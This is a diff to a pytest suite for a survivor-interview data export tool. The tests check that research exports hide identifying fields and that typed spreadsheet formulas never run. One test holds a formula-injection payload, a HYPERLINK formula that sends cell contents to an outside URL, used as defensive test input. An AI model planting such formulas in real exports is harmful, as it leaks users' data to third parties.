@@ -12,7 +12,7 @@ import pytest
 
 from empower.web.exports.files import make_export
 
-from .conftest import BASELINE, ladder
+from .conftest import BASELINE, ladder, research
 
 pytestmark = pytest.mark.django_db
 
@@ -32,7 +32,10 @@ def one_interview(org_a, person, interview):
                          name="Real Name 4471", phone="0123 4471")
     answers = {**ladder(7, 3, "prefer_not_to_say", 4), "effect__family__healing": 2,
                "effect__family__purpose": "not_applicable", "effect__family__inner_peace": -1}
-    interview(participant, answers, narratives={"note__family": SECRET}, language="bn")
+    interview(participant, answers, narratives={"note__family": SECRET}, language="bn",
+              services=[{"service_type": "shelter", "provider_type": "ngo_cso",
+                         "respected_wishes": False, "conditions": ["repeated_storytelling"],
+                         "effects": {"healing": -1}}])
     return participant
 
 
@@ -90,10 +93,15 @@ def test_sav_has_labels_value_labels_and_declared_missing(org_a, one_interview, 
 
 def test_identifying_fields_and_notes_are_never_exported(org_a, one_interview):
     for dataset, fmt in [("assessments", "csv"), ("assessments", "xlsx"), ("assessments", "sav"),
-                         ("scores", "csv"), ("htcds", "csv"), ("htcds", "xlsx")]:
+                         ("scores", "csv"), ("services", "csv"), ("services", "sav"),
+                         ("htcds", "csv"), ("htcds", "xlsx")]:
         for purpose in ("own_reporting", "research"):
             text = _all_text(make_export(org_a, dataset, fmt, purpose).content, fmt)
-            assert one_interview.code in text
+            if purpose == "own_reporting":
+                assert one_interview.code in text
+            else:  # research files carry the research code, never the participant code
+                assert research(one_interview) in text
+                assert one_interview.code not in text, (dataset, fmt)
             for secret in (SECRET, "Real Name 4471", "0123 4471", "4471"):
                 assert secret not in text, (dataset, fmt, purpose)
 
@@ -151,3 +159,54 @@ def test_scores_long_format(org_a, one_interview, tmp_path):
     assert dict(zip(meta.column_names, meta.column_labels, strict=True))["score"] == (
         "Axis score (0-100)")
     assert frame["score"].iloc[0] == pytest.approx(100 * 6 / 9)
+
+
+def test_typed_formulas_never_run_and_effects_stay_numbers(org_a, person, interview):
+    attack = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
+    participant = person(org_a, region_of_origin=attack, destination_country="@SUM(1+1)")
+    interview(participant, {**ladder(5), "effect__family__healing": -2,
+                            "effect__family__purpose": -1})
+    rows = list(csv.DictReader(io.StringIO(make_export(
+        org_a, "assessments", "csv", "own_reporting").content.decode("utf-8-sig"))))
+    assert rows[0]["region_of_origin"] == "'" + attack
+    assert rows[0]["destination_country"] == "'@SUM(1+1)"
+    assert rows[0]["effect__family__healing"] == "-2"
+    assert rows[0]["effect__family__purpose"] == "-1"
+    workbook = openpyxl.load_workbook(io.BytesIO(make_export(
+        org_a, "assessments", "xlsx", "own_reporting").content))
+    header, first = list(workbook["assessments"].iter_rows(max_row=2))
+    cells = {h.value: c for h, c in zip(header, first, strict=True)}
+    assert cells["region_of_origin"].value == attack
+    assert cells["region_of_origin"].data_type == "s" and cells["region_of_origin"].quotePrefix
+    assert cells["effect__family__healing"].value == -2
+    assert cells["effect__family__healing"].data_type == "n"
+
+
+def test_sav_dates_are_spss_dates(org_a, one_interview, tmp_path):
+    _frame, meta = _read_sav(make_export(org_a, "assessments", "sav", "research").content,
+                             tmp_path)
+    assert meta.original_variable_types["conducted_on"].startswith("DATE")
+    assert meta.column_names[0] == "participant"
+
+
+def test_same_item_on_another_scale_gets_its_own_column():
+    from dataclasses import replace
+
+    from empower.instruments import get_instrument
+    from empower.instruments.model import Option
+    from empower.web.exports.datasets import answer_variables
+
+    v2 = get_instrument("empowerment-interview", "2.0")
+    ladder_scale = v2.scales["ladder"]
+    five = replace(ladder_scale, options=tuple(
+        Option(n, {"en": str(n)}) for n in range(1, 6)), maximum=5)
+    v21 = replace(v2, version="2.1", scales={**v2.scales, "ladder": five})
+    v22 = replace(v2, version="2.2")
+    variables, names = answer_variables([v2, v21, v22])
+    assert names[(v2.key, "rating__healing")] == "rating__healing"
+    assert names[(v22.key, "rating__healing")] == "rating__healing"  # same question: shared
+    # same wording, but numbers 1-5 mean something else than 1-10: kept apart
+    assert names[(v21.key, "rating__healing")] == "empowerment_interview_2_1__rating__healing"
+    by_name = {v.name: v for v in variables}
+    assert max(by_name["empowerment_interview_2_1__rating__healing"].value_labels) == 5
+    assert max(by_name["rating__healing"].value_labels) == 10
